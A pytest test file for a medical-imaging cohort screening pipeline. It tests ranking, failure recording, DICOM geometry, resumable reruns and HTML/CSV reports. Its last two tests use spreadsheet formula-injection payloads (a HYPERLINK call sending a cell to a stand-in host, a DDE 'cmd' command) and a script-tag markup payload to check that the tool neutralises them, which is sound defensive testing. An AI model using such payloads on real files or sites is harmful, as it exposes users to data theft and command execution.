"""Cohort screening with the weight-free stand-in: ranking, failures recorded, DICOM geometry, resuming, the report."""

import csv
import importlib.util
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import nibabel as nib
import numpy as np
import pytest
from conftest import FAST, LESION, LPS, OBLIQUE, PERMUTED, SETTINGS, SHAPE, as_stored, brain_volume, save_nifti

from himatch_med import jobs, screening, viewer
from himatch_med.io import LPS_TO_RAS

RADIUS = 3.0  # keeps each lesion under 0.5 % of the foreground (see test_detect)
LESIONS = {"lesion_a": LESION, "lesion_b": (34, 30, 6)}
NORMALS = {"normal_1": OBLIQUE, "normal_2": PERMUTED, "normal_3": LPS, "normal_4": OBLIQUE}
# The DICOM series: oblique (rotated about two axes), anisotropic, in SimpleITK's LPS world.
DICOM_SPACING = (1.1, 0.9, 2.5)
DICOM_ORIGIN = (30.0, -20.0, 10.0)


def _rotation(z_degrees, x_degrees):
    a, b = np.deg2rad(z_degrees), np.deg2rad(x_degrees)
    about_z = np.array([[np.cos(a), -np.sin(a), 0], [np.sin(a), np.cos(a), 0], [0, 0, 1]])
    about_x = np.array([[1, 0, 0], [0, np.cos(b), -np.sin(b)], [0, np.sin(b), np.cos(b)]])
    return about_z @ about_x


DICOM_DIRECTION = _rotation(11, 7)


def write_dicom_series(anatomy, folder):
    """Write ``anatomy`` (RAS) as an oblique DICOM series with SimpleITK, one file per slice; returns the image."""
    import locale

    import SimpleITK as sitk

    # GDCM's writer sets the process locale to "C", which would change the text encoding of every later test.
    previous = locale.setlocale(locale.LC_CTYPE)
    affine = np.eye(4)
    affine[:3, :3] = DICOM_DIRECTION * np.array(DICOM_SPACING)[None]
    affine[:3, 3] = DICOM_ORIGIN
    stored = as_stored(anatomy, LPS_TO_RAS @ affine)
    image = sitk.GetImageFromArray(np.round(stored).astype(np.int16).transpose(2, 1, 0))
    image.SetSpacing(DICOM_SPACING)
    image.SetOrigin(DICOM_ORIGIN)
    image.SetDirection(DICOM_DIRECTION.flatten().tolist())
    folder.mkdir(parents=True)
    writer = sitk.ImageFileWriter()
    writer.KeepOriginalImageUIDOn()
    direction = image.GetDirection()
    try:
        for k in range(image.GetDepth()):
            plane = image[:, :, k]
            for tag, value in (("0020|000e", "1.2.826.0.1.3680043.2.1125.4242"), ("0020|0013", str(k + 1)),
                               ("0008|0060", "MR"), ("0018|0050", str(DICOM_SPACING[2])),
                               ("0020|0032", "\\".join(map(str, image.TransformIndexToPhysicalPoint((0, 0, k))))),
                               ("0020|0037", "\\".join(map(str, direction[0:7:3] + direction[1:8:3])))):
                plane.SetMetaData(tag, value)
            writer.SetFileName(str(folder / f"IM{k:04d}.dcm"))
            writer.Execute(plane)
    finally:
        locale.setlocale(locale.LC_CTYPE, previous)
    return image


@pytest.fixture(scope="module")
def studies_root(tmp_path_factory):
    root = tmp_path_factory.mktemp("screening")
    studies = root / "cohort"
    studies.mkdir()
    for i, (name, affine) in enumerate(NORMALS.items()):
        save_nifti(as_stored(brain_volume(20 + i, SHAPE)[0], affine), affine, studies / f"{name}.nii.gz")
    for i, (name, centre) in enumerate(LESIONS.items()):
        array, lesion = brain_volume(30 + i, SHAPE, lesion=centre, radius=RADIUS)
        assert lesion.sum() < 0.005 * (array > 0).sum()
        save_nifti(as_stored(array, LPS if i else OBLIQUE), LPS if i else OBLIQUE, studies / f"{name}.nii.gz")
    write_dicom_series(brain_volume(40, SHAPE)[0], studies / "dicom_oblique")
    (studies / "corrupt.nii.gz").write_bytes((studies / "normal_1.nii.gz").read_bytes()[:300])
    save_nifti(np.ones((20, 20), np.float32), np.eye(4), studies / "flat.nii.gz")
    (studies / "notes.txt").write_text("not an image: ignored")
    return root


@pytest.fixture(scope="module")
def labels():
    names = [*NORMALS, *LESIONS, "dicom_oblique", "corrupt"]
    return {name: int(name in LESIONS) for name in names}


@pytest.fixture(scope="module")
def screened(studies_root, detector, labels):
    """The cohort screened once, with two reader workers."""
    folder = studies_root / "out"
    studies = screening.read_cohort([studies_root / "cohort"])
    result = screening.screen(studies, detector, folder, workers=2, labels=labels, progress=False)
    return folder, result


def read_scores(folder):
    with open(folder / "scores.csv", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_cohort_folder_lists_images_and_dicom_series(studies_root):
    studies = screening.read_cohort([studies_root / "cohort"])
    assert sorted(s.id for s in studies) == sorted([*NORMALS, *LESIONS, "dicom_oblique", "corrupt", "flat"])


def test_lesion_volumes_rank_first_and_failures_are_recorded(screened):
    folder, result = screened
    rows = read_scores(folder)
    assert {r["study"] for r in rows[:2]} == set(LESIONS)
    assert [r["study"] for r in rows] == [r.study.id for r in result.results]
    assert all(r["status"] == "ok" for r in rows[:7])
    scores = [float(r["volume_score"]) for r in rows[:7]]
    assert scores == sorted(scores, reverse=True)
    assert rows[0]["rank"] == "1" and rows[0]["top_slices"].count(":") == 3
    failed = {r["study"]: r for r in rows if r["status"] == "failed"}
    assert set(failed) == {"corrupt", "flat"} and [r["study"] for r in rows[-2:]] == ["corrupt", "flat"]
    assert "corrupt.nii.gz: cannot be read as NIfTI" in failed["corrupt"]["error"]
    assert "has 2 dimensions" in failed["flat"]["error"] and failed["flat"]["rank"] == ""
    assert result.count("ok") == 7 and result.count("failed") == 2
    for row in rows[:7]:
        assert jobs.is_complete(Path(row["input"]), folder / row["study"])


def test_scores_and_report_give_each_studys_findings(screened):
    folder, _ = screened
    rows = read_scores(folder)
    for row in rows[:7]:
        report = json.loads((folder / row["study"] / f"{Path(row['input']).name.split('.')[0]}_report.json")
                            .read_text()) if not Path(row["input"]).is_dir() else \
            json.loads(next((folder / row["study"]).glob("*_report.json")).read_text())
        assert row["findings"] == str(len(report["findings"])), row["study"]
        if report["findings"]:
            largest = max(report["findings"], key=lambda f: f["volume_ml"])
            assert float(row["largest_finding_ml"]) == pytest.approx(largest["volume_ml"], abs=1e-3)
            assert float(row["largest_finding_peak_z"]) == pytest.approx(largest["peak_z"], abs=0.01)
        else:
            assert row["largest_finding_ml"] == "" and row["largest_finding_peak_z"] == ""
    assert all(int(r["findings"]) > 0 for r in rows[:2]), "the planted lesions are findings"
    page = (folder / "report.html").read_text()
    assert "<th>findings</th>" in page and "largest" in page and "_findings.nii.gz" in page


def test_labels_give_an_auc_and_a_roc_curve(screened):
    folder, result = screened
    assert result.auc == pytest.approx(1.0)
    assert (folder / "roc.png").stat().st_size > 1000
    assert "1 labelled study failed" in result.auc_note and "flat" not in result.auc_note
    rows = read_scores(folder)
    assert {r["study"]: r["label"] for r in rows}["lesion_a"] == "1"
    assert {r["study"]: r["label"] for r in rows}["flat"] == ""


def test_dicom_heatmap_has_the_series_world_geometry(studies_root, screened):
    import SimpleITK as sitk

    folder, _ = screened
    reader = sitk.ImageSeriesReader()
    reader.SetFileNames(reader.GetGDCMSeriesFileNames(str(studies_root / "cohort" / "dicom_oblique")))
    series = reader.Execute()
    np.testing.assert_allclose(series.GetDirection(), DICOM_DIRECTION.flatten(), atol=1e-5)
    heat_path = folder / "dicom_oblique" / "dicom_oblique_anomaly.nii.gz"
    heat = nib.load(heat_path)
    assert heat.shape == series.GetSize()
    for index in ((0, 0, 0), (55, 59, 13), (7, 31, 4)):
        lps = np.array(series.TransformIndexToPhysicalPoint(index))
        np.testing.assert_allclose((heat.affine @ [*index, 1])[:3], lps * [-1, -1, 1], atol=1e-3)
    # As ITK-based viewers (3D Slicer) open the NIfTI: the same origin, spacing and direction as the series.
    opened = sitk.ReadImage(str(heat_path))
    np.testing.assert_allclose(opened.GetOrigin(), series.GetOrigin(), atol=1e-3)
    np.testing.assert_allclose(opened.GetSpacing(), series.GetSpacing(), atol=1e-4)
    np.testing.assert_allclose(opened.GetDirection(), series.GetDirection(), atol=1e-4)


def test_the_report_references_only_files_that_exist(screened):
    folder, result = screened
    page = (folder / "report.html").read_text()
    links = _links(page)
    assert links and not [link for link in links if re.match(r"[a-z]+:", link) or link.startswith("/")]
    for link in links:
        assert (folder / _unquote(link)).exists(), link
    images = [link for link in links if link.endswith(".png")]
    assert "roc.png" in images and len({i for i in images if i.endswith("_overview.png")}) == 7
    assert "<script" not in page and "<link" not in page and "@import" not in page
    # Ranked like scores.csv; failed studies named with their error.
    order = [r["study"] for r in read_scores(folder) if r["status"] == "ok"]
    assert [page.index(f"<b>{name}</b>") for name in order] == sorted(page.index(f"<b>{name}</b>") for name in order)
    assert "cannot be read as NIfTI" in page and "AUC 1.000" in page


def test_a_rerun_skips_finished_studies_and_redoes_a_half_written_one(studies_root, detector, screened):
    folder, _ = screened
    half = folder / "normal_2" / "normal_2_report.json"
    half.unlink()  # the report is written last: without it the study is half-written
    kept = folder / "lesion_a" / "lesion_a_anomaly.nii.gz"
    stamp = kept.stat().st_mtime_ns
    studies = screening.read_cohort([studies_root / "cohort"])
    result = screening.screen(studies, detector, folder, workers=0, progress=False)
    status = {r.study.id: r.status for r in result.results}
    assert status["normal_2"] == "ok" and half.exists()
    assert [name for name, s in status.items() if s == "skipped"] == [
        r["study"] for r in read_scores(folder) if r["status"] == "skipped"]
    assert sum(s == "skipped" for s in status.values()) == 6 and status["corrupt"] == "failed"
    assert kept.stat().st_mtime_ns == stamp
    rows = read_scores(folder)
    assert {r["study"] for r in rows[:2]} == set(LESIONS)  # skipped studies keep their scores and rank
    assert "label" not in rows[0]


def test_force_redoes_every_study_and_other_settings_are_not_skipped(studies_root, detector, tmp_path):
    from dataclasses import replace

    studies = [s for s in screening.read_cohort([studies_root / "cohort"]) if s.id in ("normal_1", "lesion_a")]
    first = screening.screen(studies, detector, tmp_path, workers=0, progress=False)
    assert first.count("ok") == 2
    again = screening.screen(studies, detector, tmp_path, workers=0, progress=False)
    assert again.count("skipped") == 2
    # Speed-only settings do not make a study stale; settings that change the result do.
    faster = screening.screen(studies, replace(detector, settings=replace(SETTINGS, batch_size=4)), tmp_path,
                              workers=0, progress=False)
    assert faster.count("skipped") == 2
    other_settings = replace(detector, settings=replace(SETTINGS, top_fraction=0.05))
    other = screening.screen(studies, other_settings, tmp_path, workers=0, progress=False)
    assert other.count("ok") == 2
    forced = screening.screen(studies, other_settings, tmp_path, workers=0, force=True, progress=False)
    assert forced.count("ok") == 2


def test_a_failing_analysis_is_recorded_and_the_rest_goes_on(studies_root, detector, tmp_path, monkeypatch):
    real = jobs.analyse

    def analyse(job, *args, **kwargs):
        if job.scan.path.name.startswith("normal_3"):
            raise MemoryError("out of memory on this one")
        return real(job, *args, **kwargs)

    monkeypatch.setattr(jobs, "analyse", analyse)
    studies = [s for s in screening.read_cohort([studies_root / "cohort"]) if s.id in ("normal_3", "lesion_b")]
    result = screening.screen(studies, detector, tmp_path, workers=0, progress=False)
    assert [(r.study.id, r.status) for r in result.results] == [("lesion_b", "ok"), ("normal_3", "failed")]
    assert result.results[1].error.endswith("MemoryError: out of memory on this one")
    assert "Traceback" in result.results[1].details


def _uncompressed(array, path):
    """An uncompressed NIfTI: another volume of the same shape has exactly the same size."""
    save_nifti(as_stored(array, OBLIQUE), OBLIQUE, path)
    return path


def test_a_rerun_recomputes_a_study_whose_file_was_replaced_in_place(detector, tmp_path):
    cohort = tmp_path / "cohort"
    cohort.mkdir()
    study = _uncompressed(brain_volume(60, SHAPE)[0], cohort / "scan.nii")
    other = _uncompressed(brain_volume(61, SHAPE, lesion=LESION, radius=RADIUS)[0], tmp_path / "other.nii")
    first = screening.screen(screening.read_cohort([cohort]), detector, tmp_path / "out", workers=0, progress=False)
    # Replaced by other content of the same size, its time put back: only the content tells them apart.
    stamp = study.stat().st_mtime_ns
    study.write_bytes(other.read_bytes())
    os.utime(study, ns=(stamp, stamp))
    again = screening.screen(screening.read_cohort([cohort]), detector, tmp_path / "out", workers=0, progress=False)
    fresh = screening.screen(screening.read_cohort([other]), detector, tmp_path / "fresh", workers=0,
                             progress=False)
    assert again.results[0].status == "ok"
    assert again.results[0].volume_score == fresh.results[0].volume_score != first.results[0].volume_score
    assert read_scores(tmp_path / "out")[0]["volume_score"] == read_scores(tmp_path / "fresh")[0]["volume_score"]


def test_a_rerun_skips_an_input_rewritten_with_the_same_content(detector, tmp_path):
    cohort = tmp_path / "cohort"
    cohort.mkdir()
    study = _uncompressed(brain_volume(60, SHAPE)[0], cohort / "scan.nii")
    screening.screen(screening.read_cohort([cohort]), detector, tmp_path / "out", workers=0, progress=False)
    data = study.read_bytes()
    study.unlink()
    study.write_bytes(data)  # e.g. the cohort copied back: a new file, a new time, the same bytes
    again = screening.screen(screening.read_cohort([cohort]), detector, tmp_path / "out", workers=0, progress=False)
    assert again.results[0].status == "skipped"


def test_a_csv_id_now_pointing_to_another_file_of_the_same_name_is_recomputed(detector, tmp_path):
    # BIDS-like: every subject's file has the same name.
    for subject, seed in (("sub-01", 62), ("sub-02", 63)):
        (tmp_path / subject / "anat").mkdir(parents=True)
        lesion = LESION if subject == "sub-02" else None
        save_nifti(as_stored(brain_volume(seed, SHAPE, lesion=lesion, radius=RADIUS)[0], OBLIQUE), OBLIQUE,
                   tmp_path / subject / "anat" / "T1w.nii.gz")
    table = tmp_path / "cohort.csv"
    table.write_text("id,path\nP1,sub-01/anat/T1w.nii.gz\n")
    first = screening.screen(screening.read_cohort([table]), detector, tmp_path / "out", workers=0, progress=False)
    table.write_text("id,path\nP1,sub-02/anat/T1w.nii.gz\n")
    again = screening.screen(screening.read_cohort([table]), detector, tmp_path / "out", workers=0, progress=False)
    fresh = screening.screen(screening.read_cohort([tmp_path / "sub-02" / "anat" / "T1w.nii.gz"]), detector,
                             tmp_path / "fresh", workers=0, progress=False)
    assert again.results[0].status == "ok"
    assert again.results[0].volume_score == fresh.results[0].volume_score != first.results[0].volume_score
    report = json.loads((tmp_path / "out" / "P1" / "T1w_report.json").read_text())
    assert report["input"] == str(tmp_path / "sub-02" / "anat" / "T1w.nii.gz")


DAMAGED = [[], "a string", {"volume_score": "high"}, {"bank": []}, {"settings": None}, {"top_slices": "k=3"},
           {"outputs": ["anomaly"]}, {"timings_seconds": {"a": "1"}}, {"timings_seconds": {"a": None}},
           {"source": []}, {"notes": 5}]
"""Earlier reports that are not reports: JSON of another shape, or a field of another type."""


def test_a_damaged_earlier_report_is_redone_and_the_rest_of_the_rerun_goes_on(detector, tmp_path):
    cohort = tmp_path / "cohort"
    cohort.mkdir()
    for seed, name in ((64, "a"), (65, "b")):
        save_nifti(as_stored(brain_volume(seed, SHAPE)[0], OBLIQUE), OBLIQUE, cohort / f"{name}.nii.gz")
    out = tmp_path / "out"
    screening.screen(screening.read_cohort([cohort]), detector, out, workers=0, progress=False)
    path = out / "a" / "a_report.json"
    report = json.loads(path.read_text())
    for damage in DAMAGED:
        path.write_text(json.dumps({**report, **damage} if isinstance(damage, dict) else damage))
        again = screening.screen(screening.read_cohort([cohort]), detector, out, workers=0, progress=False)
        assert {r.study.id: r.status for r in again.results} == {"a": "ok", "b": "skipped"}, damage
        assert json.loads(path.read_text())["volume_score"] == report["volume_score"]


def test_an_interrupted_screening_leaves_each_study_complete_or_absent(studies_root, detector, tmp_path,
                                                                       monkeypatch):
    from himatch_med import io

    real = io.write_figure
    written = []

    def interrupted(figure, path):
        if written:
            raise KeyboardInterrupt
        written.append(path)
        return real(figure, path)

    monkeypatch.setattr(io, "write_figure", interrupted)
    studies = [s for s in screening.read_cohort([studies_root / "cohort"]) if s.id in ("normal_1", "lesion_a")]
    with pytest.raises(KeyboardInterrupt):
        screening.screen(studies, detector, tmp_path, workers=0, progress=False)
    complete = [p.name for p in jobs.output_paths(Path("lesion_a.nii.gz"), tmp_path).values()]
    page = list(viewer.FILES) if viewer.available() else []
    assert sorted(p.name for p in tmp_path.rglob("*")) == sorted(["lesion_a", *complete, *page, "normal_1"])


def test_a_cohort_csv_with_ids_and_relative_paths(studies_root):
    table = studies_root / "lists" / "cohort.csv"
    table.parent.mkdir(exist_ok=True)
    table.write_text(f"id,path\nP-001,../cohort/lesion_a.nii.gz\nP/002,{studies_root / 'cohort' / 'dicom_oblique'}\n"
                     ",../cohort/missing.nii.gz\n")
    studies = screening.read_cohort([table])
    assert [s.id for s in studies] == ["P-001", "P/002", "missing"]
    assert [s.folder for s in studies] == ["P-001", "P_002", "missing"]
    assert studies[0].path.resolve() == (studies_root / "cohort" / "lesion_a.nii.gz").resolve()
    table.write_text("id,file\na,b.nii.gz\n")
    with pytest.raises(ValueError, match="needs a 'path' column"):
        screening.read_cohort([table])
    table.write_text("id,path\na,x.nii.gz\na,y.nii.gz\n")
    with pytest.raises(ValueError, match="share the output folder 'a'"):
        screening.read_cohort([table])


def test_outputs_inside_a_dicom_series_folder_are_refused(studies_root):
    studies = [s for s in screening.read_cohort([studies_root / "cohort"]) if s.id == "dicom_oblique"]
    with pytest.raises(ValueError, match="would mix them with the inputs"):
        screening.check_study_folders(studies_root / "cohort", studies)


def test_labels_csv_is_checked(tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("id,label\na,1\nb,0\n")
    assert screening.read_labels(path) == {"a": 1, "b": 0}
    path.write_text("id,label\na,yes\n")
    with pytest.raises(ValueError, match="line 2: label 'yes' must be 1"):
        screening.read_labels(path)


def test_the_command_line_on_a_csv_cohort_with_labels(studies_root, references, tiny_dinov3, tmp_path, capsys):
    spec = importlib.util.spec_from_file_location("screen", Path(__file__).parents[1] / "pipelines" / "screen.py")
    cli = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(cli)
    table = tmp_path / "cohort.csv"
    table.write_text("path,id\n" + "".join(f"{studies_root / 'cohort' / name},{name.split('.')[0]}\n" for name in (
        "normal_1.nii.gz", "lesion_a.nii.gz", "corrupt.nii.gz", "dicom_oblique")))
    (tmp_path / "labels.csv").write_text("id,label\nnormal_1,0\nlesion_a,1\ndicom_oblique,0\n")
    out = tmp_path / "out"
    args = [str(table), "--references", str(references), "--bank-cache", str(tmp_path / "cache"),
            "-o", str(out), "--labels", str(tmp_path / "labels.csv"), "--model", str(tiny_dinov3), "--workers", "1",
            "--quiet", *FAST]
    assert cli.main(args) == 1
    captured = capsys.readouterr()
    assert "corrupt.nii.gz: cannot be read as NIfTI" in captured.err
    assert "3 done, 0 skipped" in captured.out and "1 failed" in captured.out and "ROC AUC" in captured.out
    rows = read_scores(out)
    assert [r["status"] for r in rows] == ["ok", "ok", "ok", "failed"]
    report = json.loads((out / "lesion_a" / "lesion_a_report.json").read_text())
    assert report["model"] == str(tiny_dinov3)
    assert cli.main(args) == 1
    assert "0 done, 3 skipped" in capsys.readouterr().out


def test_help_is_instant():
    import subprocess
    import sys

    code = ("import runpy, sys\nsys.argv = ['screen.py', '--help']\ntry:\n"
            f"    runpy.run_path({str(Path(__file__).parents[1] / 'pipelines' / 'screen.py')!r}, run_name='__main__')\n"
            "except SystemExit:\n    pass\nassert 'torch' not in sys.modules, 'torch imported for --help'\n")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, encoding="utf-8", errors="replace")
    assert result.returncode == 0, result.stderr
    assert "--workers" in result.stdout and "--labels" in result.stdout and "--image-size" in result.stdout


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.links = []

    def handle_starttag(self, tag, attrs):
        self.links += [value for name, value in attrs if name in ("src", "href") and value]


def _links(page):
    parser = _Links()
    parser.feed(page)
    return parser.links


def _unquote(link):
    from urllib.parse import unquote

    return unquote(link)


class _NoBank:
    id = "0123456789abcdef"

    def __len__(self):
        return 3


HOSTILE_IDS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\tpadded", "\rreturned"]


def test_scores_csv_cells_cannot_become_spreadsheet_formulas(tmp_path):
    results = [screening.Result(screening.Study(name, tmp_path / f"s{i}.nii.gz"), "ok", volume_score=-1.5 + i,
                                volume_percentile=10.0, notes=["=1+1 looks like a formula"])
               for i, name in enumerate(HOSTILE_IDS)]
    results.append(screening.Result(screening.Study("bad", tmp_path / "=evil().nii.gz"), "failed",
                                    error="-bad input: cannot be read"))
    path = screening.write_scores(screening.Screening(results, 1.0), tmp_path / "scores.csv")
    rows = read_scores(path.parent)
    assert [r["study"] for r in rows[:6]] == ["'" + name for name in HOSTILE_IDS]
    assert all(r["notes"] == "'=1+1 looks like a formula" for r in rows[:6])
    assert rows[-1]["error"] == "'-bad input: cannot be read" and rows[-1]["input"].startswith(str(tmp_path))
    # Numbers stay numbers: a negative score is not a formula and is not quoted.
    assert rows[0]["volume_score"] == "-1.5000" and rows[-2]["volume_score"] == "3.5000"


def test_report_html_escapes_every_value_read_back_from_a_report(tmp_path):
    # An earlier report.json is data from disk: any field of it may hold markup.
    script = "<script>alert(1)</script>"
    top = [{"slice": 1, "file_axis": "k", "file_index": script, "score": script, "percentile": 50.0},
           {"slice": 2, "file_axis": script, "file_index": 3, "score": 1.25, "percentile": 50.0}]
    result = screening.Result(screening.Study(script, tmp_path / "a.nii.gz"), "skipped", volume_score=2.0,
                              volume_percentile=99.5, top_slices=top, notes=[script],
                              outputs={"overview": f"x/{script}.png", "report": "x/a_report.json"})
    page = screening.report_html(screening.Screening([result], 1.0), model=script, bank=_NoBank())
    assert "<script" not in page
    assert "k=&lt;script&gt;alert(1)&lt;/script&gt;: &lt;script&gt;" in page and "=3: 1.25" in page
    path = screening.write_scores(screening.Screening([result], 1.0), tmp_path / "scores.csv")
    assert read_scores(path.parent)[0]["top_slices"].startswith("k=<script>")
